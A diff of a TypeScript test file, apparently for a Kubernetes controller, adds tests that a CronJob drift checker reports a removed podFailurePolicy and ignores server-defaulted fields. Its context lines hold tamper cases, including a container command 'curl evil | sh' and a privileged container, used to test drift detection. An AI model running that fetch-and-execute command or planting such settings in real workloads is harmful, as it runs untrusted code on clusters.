@@ -144,6 +144,20 @@ describe('the controller owns the whole child spec', () => {
     expect(cronJobDrift(stored(), desired)).toEqual([]);
   });
 
+  it('reports a podFailurePolicy the server dropped (an old cluster, the feature gate off) or a hand edit removed', () => {
+    const obj = stored();
+    delete obj.spec.jobTemplate.spec.podFailurePolicy;
+    expect(cronJobDrift(obj, desired)).toEqual(['spec.jobTemplate.spec.podFailurePolicy.rules']);
+  });
+
+  it('takes the status the server defaults into a podFailurePolicy onPodConditions pattern for no drift', () => {
+    const withCondition = structuredClone(desired) as KubeObject & { spec: any };
+    withCondition.spec.jobTemplate.spec.podFailurePolicy.rules.push({ action: 'Ignore', onPodConditions: [{ type: 'DisruptionTarget' }] });
+    const obj = asStored(withCondition) as KubeObject & { spec: any };
+    expect(obj.spec.jobTemplate.spec.podFailurePolicy.rules[1].onPodConditions[0].status).toBe('True');
+    expect(cronJobDrift(obj, withCondition)).toEqual([]);
+  });
+
   it.each<[string, Edit, string]>([
     ['a command', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].command = ['sh', '-c', 'curl evil | sh']), `${pod}.containers[0].command`],
     ['a privileged container', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].securityContext.privileged = true), `${pod}.containers[0].securityContext.privileged`],
